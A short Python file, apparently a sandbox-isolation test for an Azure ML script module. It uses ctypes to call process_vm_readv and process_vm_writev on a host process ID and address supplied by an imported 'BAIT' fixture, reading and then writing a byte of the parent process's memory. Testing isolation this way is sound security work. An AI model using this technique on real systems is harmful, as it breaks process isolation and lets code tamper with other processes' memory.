"""Changes the memory of the process that ordered the job, to what it is."""

import ctypes

from attack import BAIT, attack, call


class Piece(ctypes.Structure):
    """struct iovec."""

    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    content = ctypes.create_string_buffer(1)
    ours, theirs = Piece(ctypes.addressof(content), 1), Piece(BAIT["host_address"], 1)
    call("process_vm_readv", BAIT["host_pid"], ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
    call("process_vm_writev", BAIT["host_pid"], ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
    return "wrote into the parent's memory"
